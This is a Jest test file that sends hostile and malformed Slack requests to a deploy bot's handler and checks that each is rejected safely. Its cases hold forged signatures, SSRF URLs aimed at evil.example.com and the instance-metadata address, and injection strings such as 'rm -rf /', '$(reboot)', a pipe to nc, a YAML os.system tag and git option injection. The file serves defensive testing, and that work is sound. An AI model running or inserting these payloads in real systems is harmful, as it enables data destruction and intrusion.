/**
 * The bad-input table: hostile or malformed requests through the real handler (mocked AWS).
 * Every case must end in a 4xx or a friendly ephemeral reply, and none may publish an event, answer
 * with a 5xx, or leak a stack trace, an error name or a file path.
 */
import { PutEventsCommand } from '@aws-sdk/client-eventbridge';
import { GetCommand, QueryCommand } from '@aws-sdk/lib-dynamodb';
import type { APIGatewayProxyEventV2 } from 'aws-lambda';
import { slackSignature } from '../../src/domain/signature';
import {
  ADMIN,
  buttonForm,
  buttonPayload,
  DEPLOY_ID,
  deploymentItem,
  nowSeconds,
  OTHER_USER,
  SIGNING_SECRET,
  STRANGER,
  slackEvent,
  slashEvent,
  slashForm,
} from '../helpers/factories';
import { awsMocks, ingressHarness } from '../helpers/harness';

const mocks = awsMocks();

type Expected = 401 | 400 | 404 | 413 | 415 | 'ephemeral' | 'button-note';

interface HostileCase {
  name: string;
  event: () => APIGatewayProxyEventV2;
  expected: Expected;
  /** Table contents for ownership cases. */
  setup?: () => void;
}

const othersDeployment = () => {
  mocks.dynamo.on(GetCommand).resolves({
    Item: deploymentItem({ owner: { userId: OTHER_USER, teamId: 'T0TEAM001', userName: 'o' } }),
  });
  mocks.dynamo.on(QueryCommand).resolves({
    Items: [deploymentItem({ owner: { userId: OTHER_USER, teamId: 'T0TEAM001', userName: 'o' } })],
  });
};

const deploy = (text: string) => () => slashEvent('/deploy', text);
const signedBody =
  (body: string, options = {}) =>
  () =>
    slackEvent(body, options);
const big = 'x'.repeat(64 * 1024 + 1);

const authenticity: HostileCase[] = [
  {
    name: 'no signature',
    event: () => slashEvent('/deploy', 'login', {}, { signature: null }),
    expected: 401,
  },
  {
    name: 'no timestamp',
    event: () => {
      const e = slashEvent('/deploy', 'login');
      delete e.headers['x-slack-request-timestamp'];
      return e;
    },
    expected: 401,
  },
  {
    name: 'no Slack headers at all',
    event: () => {
      const e = slashEvent('/deploy', 'login', {}, { signature: null });
      delete e.headers['x-slack-request-timestamp'];
      return e;
    },
    expected: 401,
  },
  {
    name: 'signed with another secret',
    event: () => slashEvent('/deploy', 'login', {}, { secret: 'guess' }),
    expected: 401,
  },
  {
    name: 'signature of zeros',
    event: () => slashEvent('/deploy', 'login', {}, { signature: `v0=${'0'.repeat(64)}` }),
    expected: 401,
  },
  {
    name: 'v1 signature',
    event: () => slashEvent('/deploy', 'login', {}, { signature: `v1=${'a'.repeat(64)}` }),
    expected: 401,
  },
  {
    name: 'truncated signature',
    event: () => slashEvent('/deploy', 'login', {}, { signature: 'v0=abc' }),
    expected: 401,
  },
  {
    name: 'empty signature',
    event: () => slashEvent('/deploy', 'login', {}, { signature: '' }),
    expected: 401,
  },
  {
    name: 'signature with trailing garbage',
    event: () => {
      const body = slashForm();
      const ts = String(nowSeconds());
      return slackEvent(body, { timestamp: ts, signature: `${slackSignature(SIGNING_SECRET, ts, body)}00` });
    },
    expected: 401,
  },
  {
    name: 'stale timestamp (5 min + 1 s)',
    event: () => slashEvent('/deploy', 'login', {}, { timestamp: String(nowSeconds() - 301) }),
    expected: 401,
  },
  {
    name: 'timestamp from the future',
    event: () => slashEvent('/deploy', 'login', {}, { timestamp: String(nowSeconds() + 301) }),
    expected: 401,
  },
  {
    name: 'timestamp of 0',
    event: () => slashEvent('/deploy', 'login', {}, { timestamp: '0' }),
    expected: 401,
  },
  {
    name: 'non-numeric timestamp',
    event: () => slashEvent('/deploy', 'login', {}, { timestamp: 'now' }),
    expected: 401,
  },
  {
    name: 'enormous timestamp',
    event: () => slashEvent('/deploy', 'login', {}, { timestamp: '9'.repeat(40) }),
    expected: 401,
  },
  {
    name: 'body altered after signing',
    event: () => slackEvent(slashForm({ text: 'all' }), { signedBody: slashForm({ text: 'login' }) }),
    expected: 401,
  },
  {
    name: 'user id swapped after signing',
    event: () => slackEvent(slashForm({ user_id: ADMIN }), { signedBody: slashForm() }),
    expected: 401,
  },
  {
    name: 'field appended after signing',
    event: () => slackEvent(`${slashForm()}&user_id=${ADMIN}`, { signedBody: slashForm() }),
    expected: 401,
  },
  {
    name: 'signature over the base64 text instead of the body',
    event: () => {
      const body = slashForm();
      return slackEvent(body, { signedBody: Buffer.from(body).toString('base64') });
    },
    expected: 401,
  },
  {
    name: "Slack's documented example replayed",
    event: () =>
      slackEvent(slashForm(), {
        timestamp: '1531420618',
        signature: 'v0=a2114d57b48eac39b9ad189dd8316235a7b4a8d21a10bd27519666489c69b503',
      }),
    expected: 401,
  },
  {
    name: 'retry header on a forged request',
    event: () =>
      slashEvent('/deploy', 'login', {}, { secret: 'guess', headers: { 'x-slack-retry-num': '1' } }),
    expected: 401,
  },
  {
    name: 'no body at all',
    event: () => {
      const e = slashEvent('/deploy', 'login', {}, { signature: null });
      delete e.body;
      return e;
    },
    expected: 401,
  },
];

const transport: HostileCase[] = [
  {
    name: 'JSON content type',
    event: signedBody(slashForm(), { contentType: 'application/json' }),
    expected: 415,
  },
  {
    name: 'text/plain content type',
    event: signedBody(slashForm(), { contentType: 'text/plain' }),
    expected: 415,
  },
  {
    name: 'multipart content type',
    event: signedBody(slashForm(), { contentType: 'multipart/form-data; boundary=x' }),
    expected: 415,
  },
  { name: 'no content type', event: signedBody(slashForm(), { contentType: null }), expected: 415 },
  { name: 'body over 64 KB (base64)', event: signedBody(slashForm({ text: big })), expected: 413 },
  {
    name: 'body over 64 KB (plain)',
    event: signedBody(slashForm({ text: big }), { base64: false }),
    expected: 413,
  },
  { name: 'unknown route', event: signedBody(slashForm(), { route: '/slack/unknown' }), expected: 404 },
  { name: 'missing command', event: signedBody(slashForm({ command: undefined })), expected: 400 },
  { name: 'missing user_id', event: signedBody(slashForm({ user_id: undefined })), expected: 400 },
  { name: 'missing team_id', event: signedBody(slashForm({ team_id: undefined })), expected: 400 },
  { name: 'missing channel_id', event: signedBody(slashForm({ channel_id: undefined })), expected: 400 },
  { name: 'missing response_url', event: signedBody(slashForm({ response_url: undefined })), expected: 400 },
  { name: 'empty form', event: signedBody(''), expected: 400 },
  {
    name: 'response_url over http',
    event: signedBody(slashForm({ response_url: 'http://hooks.slack.com/commands/1/2/3' })),
    expected: 400,
  },
  {
    name: 'response_url elsewhere',
    event: signedBody(slashForm({ response_url: 'https://evil.example.com/commands/1' })),
    expected: 400,
  },
  {
    name: 'response_url on a look-alike host',
    event: signedBody(slashForm({ response_url: 'https://hooks.slack.com.evil.example.com/x' })),
    expected: 400,
  },
  {
    name: 'response_url with userinfo',
    event: signedBody(slashForm({ response_url: 'https://hooks.slack.com@evil.example.com/x' })),
    expected: 400,
  },
  {
    name: 'response_url to instance metadata',
    event: signedBody(slashForm({ response_url: 'https://169.254.169.254/latest/meta-data/' })),
    expected: 400,
  },
  { name: 'malformed user id', event: signedBody(slashForm({ user_id: 'admin' })), expected: 400 },
  { name: 'malformed channel id', event: signedBody(slashForm({ channel_id: '#general' })), expected: 400 },
  { name: 'command with a space', event: signedBody(slashForm({ command: '/de ploy' })), expected: 400 },
  {
    name: 'interaction without payload',
    event: signedBody('foo=bar', { route: 'interactions' }),
    expected: 400,
  },
  {
    name: 'interaction payload not JSON',
    event: signedBody('payload=%7Bnot-json', { route: 'interactions' }),
    expected: 400,
  },
  {
    name: 'interaction of another type',
    event: signedBody(buttonForm(buttonPayload({ type: 'view_submission' })), { route: 'interactions' }),
    expected: 400,
  },
  {
    name: 'interaction with an outside response_url',
    event: signedBody(buttonForm(buttonPayload({ responseUrl: 'https://evil.example.com/actions/1' })), {
      route: 'interactions',
    }),
    expected: 400,
  },
  {
    name: 'interaction without actions',
    event: signedBody(buttonForm({ ...buttonPayload(), actions: [] }), { route: 'interactions' }),
    expected: 400,
  },
  {
    name: 'interaction as JSON',
    event: signedBody(JSON.stringify(buttonPayload()), {
      route: 'interactions',
      contentType: 'application/json',
    }),
    expected: 415,
  },
];

const queries: HostileCase[] = [
  { name: 'shell: ; rm -rf /', event: deploy('login; rm -rf /'), expected: 'ephemeral' },
  { name: 'shell: $(reboot)', event: deploy('$(reboot)'), expected: 'ephemeral' },
  { name: 'shell: backticks', event: deploy('`id`'), expected: 'ephemeral' },
  { name: 'shell: pipe', event: deploy('login|nc evil 1'), expected: 'ephemeral' },
  { name: 'shell: &&', event: deploy('login&&reboot'), expected: 'ephemeral' },
  { name: 'shell: redirect', event: deploy('login>/etc/passwd'), expected: 'ephemeral' },
  { name: 'shell in raw:', event: deploy('raw:label:x;reboot'), expected: 'ephemeral' },
  { name: 'YAML flow mapping', event: deploy('{a: 1}'), expected: 'ephemeral' },
  { name: 'YAML python tag', event: deploy('!!python/object/apply:os.system ["id"]'), expected: 'ephemeral' },
  { name: 'YAML list item', event: deploy('- item'), expected: 'ephemeral' },
  { name: 'YAML mapping', event: deploy('branch: main'), expected: 'ephemeral' },
  { name: 'YAML anchor', event: deploy('&anchor'), expected: 'ephemeral' },
  { name: 'newline', event: deploy('login\nrm -rf /'), expected: 'ephemeral' },
  { name: 'carriage return', event: deploy('login\r\nX'), expected: 'ephemeral' },
  { name: 'trailing newline', event: deploy('login\n'), expected: 'ephemeral' },
  { name: 'RTL override', event: deploy('\u202Enigol'), expected: 'ephemeral' },
  { name: 'RTL isolate', event: deploy('login\u2067'), expected: 'ephemeral' },
  { name: 'Arabic text', event: deploy('تسجيل'), expected: 'ephemeral' },
  { name: 'Hebrew text', event: deploy('כניסה'), expected: 'ephemeral' },
  { name: 'zero-width space', event: deploy('log\u200Bin'), expected: 'ephemeral' },
  { name: 'zero-width joiner', event: deploy('log\u200Din'), expected: 'ephemeral' },
  { name: 'byte-order mark', event: deploy('\uFEFFlogin'), expected: 'ephemeral' },
  { name: 'NUL byte', event: deploy('log\u0000in'), expected: 'ephemeral' },
  { name: 'tab', event: deploy('log\tin'), expected: 'ephemeral' },
  { name: 'Cyrillic look-alike', event: deploy('logіn'), expected: 'ephemeral' },
  { name: '5,000-character query', event: deploy('a'.repeat(5000)), expected: 'ephemeral' },
  { name: '257-character query', event: deploy('a'.repeat(257)), expected: 'ephemeral' },
  { name: 'HTML', event: deploy('<script>alert(1)</script>'), expected: 'ephemeral' },
  { name: 'Slack mention markup', event: deploy('<!channel>'), expected: 'ephemeral' },
  { name: 'path traversal', event: deploy('../../etc/passwd'), expected: 'ephemeral' },
  { name: 'option injection', event: deploy('--upload-pack=touch /tmp/x'), expected: 'ephemeral' },
  { name: 'empty query with duration', event: deploy('for 2h'), expected: 'ephemeral' },
  { name: 'unreadable duration', event: deploy('login for ever'), expected: 'ephemeral' },
  { name: 'status with markup', event: deploy('status <@U0ADMIN1>'), expected: 'ephemeral' },
  {
    name: 'terminate with two targets',
    event: () => slashEvent('/terminate', 'mine all'),
    expected: 'ephemeral',
  },
  { name: 'terminate with shell', event: () => slashEvent('/terminate', '$(reboot)'), expected: 'ephemeral' },
  { name: 'unknown command', event: () => slashEvent('/rm', '-rf /'), expected: 'ephemeral' },
];

const authorization: HostileCase[] = [
  {
    name: 'user not on the list deploys',
    event: () => slashEvent('/deploy', 'login', { user_id: STRANGER }),
    expected: 'ephemeral',
  },
  {
    name: 'user not on the list lists',
    event: () => slashEvent('/deploy', 'list', { user_id: STRANGER }),
    expected: 'ephemeral',
  },
  {
    name: 'user not on the list terminates all',
    event: () => slashEvent('/terminate', 'all', { user_id: STRANGER }),
    expected: 'ephemeral',
  },
  {
    name: '/terminate all from a non-admin',
    event: () => slashEvent('/terminate', 'all'),
    expected: 'ephemeral',
  },
  {
    name: "terminate someone else's deploy",
    event: () => slashEvent('/terminate', DEPLOY_ID),
    expected: 'ephemeral',
    setup: othersDeployment,
  },
  {
    name: "terminate someone else's branch",
    event: () => slashEvent('/terminate', 'feature/ABC-123-login-page'),
    expected: 'ephemeral',
    setup: othersDeployment,
  },
  {
    name: "extend someone else's deploy",
    event: () => slashEvent('/deploy', `extend ${DEPLOY_ID} 2h`),
    expected: 'ephemeral',
    setup: othersDeployment,
  },
  {
    name: 'terminate a deploy that does not exist',
    event: () => slashEvent('/terminate', DEPLOY_ID),
    expected: 'ephemeral',
  },
  {
    name: "Terminate button on someone else's deploy",
    event: () => slackEvent(buttonForm(buttonPayload({ actionId: 'terminate' })), { route: 'interactions' }),
    expected: 'button-note',
    setup: othersDeployment,
  },
  {
    name: 'button from a user not on the list',
    event: () =>
      slackEvent(
        buttonForm(buttonPayload({ userId: STRANGER, actionId: 'deploy_candidate', value: 'login' })),
        { route: 'interactions' },
      ),
    expected: 'button-note',
  },
  {
    name: 'unknown button',
    event: () =>
      slackEvent(buttonForm(buttonPayload({ actionId: 'delete_everything' })), { route: 'interactions' }),
    expected: 'button-note',
  },
  {
    name: 'candidate button with shell in its value',
    event: () =>
      slackEvent(buttonForm(buttonPayload({ actionId: 'deploy_candidate', value: 'x; reboot' })), {
        route: 'interactions',
      }),
    expected: 'button-note',
  },
  {
    name: 'button whose response_url path looks like another host',
    event: () =>
      slackEvent(
        buttonForm(
          buttonPayload({ actionId: 'nope', responseUrl: 'https://hooks.slack.com//evil.example.com/x' }),
        ),
        { route: 'interactions' },
      ),
    expected: 400,
  },
  {
    name: 'Terminate button naming a branch instead of an id',
    event: () =>
      slackEvent(buttonForm(buttonPayload({ actionId: 'terminate', value: 'main' })), {
        route: 'interactions',
      }),
    expected: 'button-note',
  },
];

const cases = [...authenticity, ...transport, ...queries, ...authorization];

const LEAKS = /Error:|\bat [\w.<>]+ \(|\/work\/|node_modules|\.ts:\d|\bstack\b|PublishError|undefined/;

describe('hostile and malformed requests', () => {
  beforeEach(() => mocks.reset());

  it('has at least 60 cases', () => {
    // Assess
    expect(cases.length).toBeGreaterThanOrEqual(60);
  });

  it.each(cases.map((c) => [c.name, c] as const))('handles %s safely', async (_name, hostile) => {
    // Prepare
    hostile.setup?.();
    const { invoke, sent } = ingressHarness();

    // Act
    const result = await invoke(hostile.event());

    // Assess: never a 5xx, never an event, never internals in what the client sees
    expect(result.statusCode).toBeLessThan(500);
    expect(mocks.eventBridge.commandCalls(PutEventsCommand)).toHaveLength(0);
    expect(result.body ?? '').not.toMatch(LEAKS);
    for (const message of sent) {
      expect(new URL(message.url).origin).toBe('https://hooks.slack.com');
      expect(message.body).toMatchObject({ response_type: 'ephemeral', replace_original: false });
      expect(JSON.stringify(message.body)).not.toMatch(LEAKS);
    }
    if (typeof hostile.expected === 'number') {
      expect(result).toMatchObject({ statusCode: hostile.expected, body: '' });
      expect(sent).toEqual([]);
    } else if (hostile.expected === 'ephemeral') {
      expect(result.statusCode).toBe(200);
      expect(JSON.parse(result.body ?? '')).toMatchObject({
        response_type: 'ephemeral',
        text: expect.any(String),
      });
    } else {
      expect(result).toMatchObject({ statusCode: 200, body: '' });
      expect(sent).toHaveLength(1);
    }
  });
});
